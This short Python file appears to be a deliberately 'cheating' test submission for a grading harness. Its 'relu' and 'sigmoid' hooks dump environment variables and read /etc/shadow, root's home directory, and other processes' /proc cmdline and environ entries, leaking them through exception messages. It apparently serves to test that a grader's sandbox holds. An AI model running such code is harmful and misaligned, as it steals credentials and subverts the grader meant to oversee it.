"""Cheating: mines the grader's environment, /etc/shadow and other processes' /proc entries."""

import os

from harness import hookimpl


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read(4096).decode(errors="replace")
    except OSError as exc:
        return f"<{type(exc).__name__}>"


def _listdir(path):
    try:
        return os.listdir(path)
    except OSError as exc:
        return [f"<{type(exc).__name__}>"]


@hookimpl
def relu(z):
    raise ValueError("ENV " + repr(dict(os.environ)))


@hookimpl
def sigmoid(z):
    pids = [p for p in _listdir("/proc") if p.isdigit()] + ["1", str(os.getppid())]
    found = {"shadow": _read("/etc/shadow"), "home": _listdir(os.path.expanduser("~root")),
             "cmdlines": {p: _read(f"/proc/{p}/cmdline") for p in pids},
             "environs": {p: _read(f"/proc/{p}/environ") for p in pids}}
    raise ValueError("FOUND " + repr(found))
